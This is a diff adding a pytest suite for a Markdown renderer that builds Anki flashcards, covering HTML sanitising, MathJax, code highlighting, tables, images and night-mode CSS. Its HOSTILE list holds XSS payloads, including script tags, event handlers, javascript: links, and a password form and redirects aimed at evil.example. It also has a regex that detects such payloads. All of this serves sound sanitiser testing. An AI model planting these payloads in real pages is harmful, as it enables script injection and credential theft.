@@ -1,0 +1,151 @@
+"""Rendering a card's Markdown: sanitising, math, code highlighting, tables, images, CSS."""
+
+from __future__ import annotations
+
+import html
+import re
+
+import pytest
+
+from generator.highlight import highlight_css
+from generator.render import card_css, inline_html, markdown_html, sanitise
+
+# Anything that could run code, load something or restyle the card.
+ACTIVE = re.compile(
+    r"<\s*(script|iframe|frame|object|embed|link|style|svg|math|form|input|button|meta|base)\b"
+    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:|url\(|@import|\sstyle=\"(?!text-align)",
+    re.IGNORECASE,
+)
+
+HOSTILE = [
+    '<script>alert("x")</script>',
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    '<img src="x.png" onerror="alert(1)">',
+    "<div onclick=\"alert('c')\" onmouseover=alert(2)>hi</div>",
+    '<a href="javascript:alert(1)">a</a>',
+    '<a href="JaVaScRiPt:alert(1)">a</a>',
+    '<a href="&#106;avascript:alert(2)">a</a>',
+    '<a href=" javascript:alert(3)">a</a>',
+    '<a href="vbscript:msgbox(1)">a</a>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<embed src="https://evil.example/e.swf">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<style>@import url("https://evil.example/y.css");</style>',
+    "<span style=\"background:url('https://evil.example/t.png')\">t</span>",
+    '<td style="text-align:left; background:url(https://evil.example/t.png)">t</td>',
+    '<div style="position:fixed;top:0">overlay</div>',
+    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    '<form action="https://evil.example/"><input name="pw"><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    "<template><script>alert(1)</script></template>",
+]
+
+
+@pytest.mark.parametrize("raw", HOSTILE)
+def test_nothing_active_survives_sanitising(raw: str) -> None:
+    assert ACTIVE.search(html.unescape(raw)), "the pattern must recognise the raw attack"
+    out = markdown_html(f"- before {raw} after")
+    assert not ACTIVE.search(out), out
+    assert "before" in out and "after" in out
+
+
+@pytest.mark.parametrize("raw", HOSTILE)
+def test_nothing_active_in_a_term_either(raw: str) -> None:
+    assert not ACTIVE.search(inline_html(f"Term {raw}"))
+
+
+def test_script_text_is_dropped_not_shown() -> None:
+    out = markdown_html('Text <script>alert("gone")</script> <style>.x{}</style>more')
+    assert "alert" not in out and ".x{}" not in out
+
+
+def test_allow_html_keeps_trusted_markup_but_still_maps_images() -> None:
+    text = '<span style="color: red" onclick="f()">hot</span> <img src="a b.png">'
+    out = markdown_html(text, lambda src: "0123-a_b.png" if src == "a b.png" else src, True)
+    assert 'style="color: red"' in out and 'onclick="f()"' in out
+    assert 'src="0123-a_b.png"' in out
+
+
+def test_images_point_to_bundled_media_or_the_remote_url() -> None:
+    bundled = {"pics/a.png": "aaaa-a.png"}
+    text = (
+        "![a](pics/a.png) ![r](https://example.org/r.png) ![m](pics/missing.png) "
+        '<img src="../../etc/x.png" alt="outside">'
+    )
+    out = markdown_html(text, lambda src: bundled.get(src, src))
+    assert re.findall(r'<img[^>]*src="([^"]*)"', out) == [
+        "aaaa-a.png",
+        "https://example.org/r.png",
+    ]
+    # Images that are not in the deck leave their alt text, not a broken box.
+    assert ">m " in out or " m " in out
+    assert "outside" in out and "<img alt" not in out
+
+
+def test_inline_and_display_math_become_anki_mathjax() -> None:
+    out = markdown_html("Speed $v = d/t$ and $$E = mc^2$$ here\n\n$$\na < b\n$$\n")
+    assert "\\(v = d/t\\)" in out
+    assert "\\[E = mc^2\\]" in out
+    assert "\\[a &lt; b\\]" in out
+    assert "$" not in out
+    assert 'class="nd-math nd-math-display"' in out
+
+
+def test_code_is_highlighted_with_classes_and_no_script() -> None:
+    out = markdown_html('```python\ndef f(x):\n    return "안녕" < x  # 주석\n```\n')
+    assert out.startswith('<div class="nd-code"><pre>')
+    assert '<span class="k">def</span>' in out
+    assert '<span class="c1"># 주석</span>' in out
+    assert "&lt;" in out and "<script" not in out
+
+
+def test_unknown_language_and_indented_code_are_escaped_plain_text() -> None:
+    out = markdown_html("```nosuchlang\n<b>x</b>\n```\n\n    <i>y</i>\n")
+    assert out.count('<div class="nd-code"><pre><code>') == 2
+    assert "&lt;b&gt;x&lt;/b&gt;" in out and "&lt;i&gt;y&lt;/i&gt;" in out
+
+
+def test_tables_keep_their_alignment_and_nothing_else() -> None:
+    out = markdown_html("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
+    assert '<th style="text-align:left">a</th>' in out
+    assert '<td style="text-align:center">2</td>' in out
+    assert '<td style="text-align:right">3</td>' in out
+
+
+def test_nested_lists_and_links_survive() -> None:
+    out = markdown_html("- a\n  - b\n    - [c](https://example.org/c)\n")
+    assert out.count("<ul>") == 3
+    assert '<a href="https://example.org/c" rel="noopener noreferrer">c</a>' in out
+
+
+def test_sanitise_is_idempotent_on_its_own_output() -> None:
+    once = markdown_html("| a |\n|--:|\n| **b** $x$ |\n\n```py\nx = 1\n```\n")
+    assert sanitise(once) == once
+
+
+def test_card_css_is_offline_and_has_night_mode() -> None:
+    css = card_css()
+    assert not re.search(r"url\(|@import|@font-face|https?://", css)
+    for scope in (".nightMode", ".night_mode"):
+        assert f"{scope} .card" in css and f".card{scope}" in css
+        assert f"{scope} .nd-code .k" in css
+    assert highlight_css() in css
+
+
+def test_every_font_stack_ends_in_a_sans_or_mono_family_with_korean_first() -> None:
+    """Korean text must never fall back to a serif: each stack names Korean sans faces before
+    its generic family, and no stack ends in serif."""
+    stacks = re.findall(r"font-family:\s*([^;]+);", card_css())
+    assert stacks
+    for stack in stacks:
+        families = [f.strip().strip('"') for f in stack.split(",")]
+        assert families[-1] in ("sans-serif", "monospace"), stack
+        assert "serif" not in families
+    body = [f.strip().strip('"') for f in stacks[0].split(",")]
+    for korean in ("Apple SD Gothic Neo", "Noto Sans KR", "Noto Sans CJK KR", "Malgun Gothic"):
+        assert korean in body
+    assert body.index("Noto Sans CJK KR") < body.index("Noto Sans CJK JP")
